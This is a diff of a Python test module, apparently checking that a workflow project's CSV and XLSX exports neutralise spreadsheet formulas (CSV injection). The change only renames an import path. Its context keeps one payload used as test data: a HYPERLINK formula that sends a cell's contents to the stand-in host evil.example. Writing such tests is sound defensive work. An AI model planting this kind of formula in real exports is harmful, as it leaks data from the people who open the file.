@@ -1,5 +1,5 @@
 """No cell of a CSV or XLSX file the project writes starts a formula (CSV injection): one function,
-``workflow.spreadsheets.inert``, neutralises every cell, no other module writes such a file, and every export
+``workflow.exports.spreadsheets.inert``, neutralises every cell, no other module writes such a file, and every export
 is walked with formulas planted where clerks and administrators type."""
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from post_award_steps import final_case, on, start, step
 from workflow.db import db
 from workflow.jobs.runner import run_background_jobs
 from workflow.models import Application, CashExport
-from workflow.spreadsheets import FORMULA_STARTS, inert
+from workflow.exports.spreadsheets import FORMULA_STARTS, inert
 
 PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
 NEUTRALISED = "'" + PLANTED
